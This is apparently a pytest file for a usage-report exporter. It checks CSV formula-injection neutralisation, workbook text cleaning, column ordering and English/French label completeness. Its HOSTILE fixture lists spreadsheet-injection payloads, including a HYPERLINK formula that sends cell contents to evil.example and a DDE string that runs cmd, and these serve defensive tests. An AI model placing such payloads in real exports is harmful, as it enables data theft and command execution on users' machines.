"""The usage exports as pure functions: formula injection neutralised in every text cell of the CSV and the
workbook, text a workbook cannot hold cleaned, the daily columns following the report's own keys, and the
workbook's words complete in English and French."""
from __future__ import annotations

import csv
import datetime as dt
import io
import re
import zipfile

import openpyxl
import pytest

from server.governance.usage import _empty_day
from server.governance.usage_export import daily_columns, export_filename, neutralise_formula, usage_csv
from server.governance.usage_labels import LANGUAGES, STRINGS, Labels
from server.governance.usage_workbook import usage_xlsx

HOSTILE = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2-3", "@SUM(1,2)",
           "\t=1+1", "\r=1+1", "\uff1d1+1"]


def report(**changes) -> dict:
    days = [_empty_day(dt.date(2026, 3, 3)), _empty_day(dt.date(2026, 3, 4))]
    days[0].update(requests=2, prompt_tokens=10, completion_tokens=4, latency_p50_ms=80, latency_p95_ms=90)
    days[0]["by_action"]["rewrite"] = 2
    base = {"tenant_id": "tenant-a", "from": "2026-03-03", "to": "2026-03-04",
            "totals": {"requests": 2, "prompt_tokens": 10, "completion_tokens": 4, "blocked": 0, "redacted": 0,
                       "errors": 0, "users": 1},
            "days": days, "top_presets": [], "errors": [],
            "users": [{"user": "user-0123456789abcdef0123", "tenant_id": "tenant-a", "requests": 2,
                       "prompt_tokens": 10, "completion_tokens": 4}]}
    base.update(changes)
    return base


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_starts_get_an_apostrophe(text):
    assert neutralise_formula(text) == "'" + text


@pytest.mark.parametrize("text", ["brief", "2026-03-03", "user-0a1b", "a=b", "", "'quoted"])
def test_other_text_is_left_alone(text):
    assert neutralise_formula(text) == text


def test_every_csv_text_cell_is_neutralised():
    # The report's own cells are dates and numbers today; a text cell a later column brings is guarded too.
    hostile = report()
    for day, text in zip(hostile["days"], HOSTILE[:2], strict=False):
        day["day"] = text
    rows = list(csv.reader(io.StringIO(usage_csv(hostile).decode())))
    assert [row[0] for row in rows[1:]] == ["'" + HOSTILE[0], "'" + HOSTILE[1]]
    assert rows[1][1:3] == ["2", "2"]


def test_csv_columns_follow_the_reports_keys():
    extra = report()
    for day in extra["days"]:
        day["by_action"]["translate"] = 1  # an action a later release adds
    header = next(csv.reader(io.StringIO(usage_csv(extra).decode())))
    assert header[2:7] == ["action_rewrite", "action_summarize", "action_draft", "action_review", "action_translate"]
    assert [column.name for column in daily_columns(extra)][-3:] == ["blocked", "redacted", "errors"]


def test_the_workbook_never_holds_a_formula():
    hostile = report(tenant_id=HOSTILE[1],
                     top_presets=[{"preset": text, "requests": 1} for text in HOSTILE],
                     errors=[{"outcome": "error", "error_code": HOSTILE[3], "count": 1}],
                     users=[{"user": HOSTILE[0], "tenant_id": HOSTILE[2], "requests": 1, "prompt_tokens": 1,
                             "completion_tokens": 1}])
    data = usage_xlsx(hostile)
    package = zipfile.ZipFile(io.BytesIO(data))
    for name in package.namelist():
        if name.startswith("xl/worksheets/sheet"):
            assert not re.search(rb"<f[ >]", package.read(name)), f"a formula in {name}"
    book = openpyxl.load_workbook(io.BytesIO(data))
    cells = {cell.value: cell for sheet in book for row in sheet.iter_rows() for cell in row
             if isinstance(cell.value, str)}
    for text in HOSTILE:
        cell = cells.get(text) or cells.get(text.replace("\r", "\n"))  # XML reads a lone CR as LF
        assert cell is not None, f"{text!r} is not in the workbook as it was"
        assert cell.data_type == "s" and cell.quotePrefix, text


def test_text_a_workbook_cannot_hold_is_cleaned_not_fatal():
    book = openpyxl.load_workbook(io.BytesIO(usage_xlsx(report(tenant_id="tenant\x07-a\x00"))))
    assert book["Summary"]["B4"].value == "tenant-a"


def test_filenames_name_the_range():
    assert export_filename(report(), "csv") == "drafter-usage-2026-03-03-2026-03-04.csv"


def _placeholders(text: str) -> list[str]:
    return sorted(re.findall(r"\{(\w+)\}", text))


def test_the_workbooks_words_are_complete_in_both_languages():
    assert tuple(STRINGS) == LANGUAGES == ("en", "fr")
    assert set(STRINGS["fr"]) == set(STRINGS["en"])
    for key, english in STRINGS["en"].items():
        french = STRINGS["fr"][key]
        assert english.strip() and french.strip(), key
        assert _placeholders(french) == _placeholders(english), key
        # French typography: a no-break space before a colon, never a plain one (the colon would wrap alone)
        assert not re.search(r"(^|[^\u00a0\u202f]):", french), key
    sheets = [STRINGS[language][f"sheet.{name}"] for language in LANGUAGES for name in ("summary", "daily", "users")]
    assert all(len(name) <= 31 and not re.search(r"[\\/?*\[\]:]", name) for name in sheets)  # Excel's rules


def test_labels_refuse_a_language_they_do_not_have_and_name_new_keys_by_themselves():
    with pytest.raises(ValueError):
        Labels("de")
    assert Labels("fr").name("outcome", "blocked") == "Bloquée par la politique"
    assert Labels("fr").name("action", "translate") == "translate"  # an action a later release adds


def test_french_columns_keep_their_machine_names():
    english, french = daily_columns(report()), daily_columns(report(), Labels("fr"))
    assert [column.name for column in french] == [column.name for column in english]
    assert [column.title for column in french][:3] == ["Jour", "Requêtes", "Requêtes\u00a0: réécriture"]
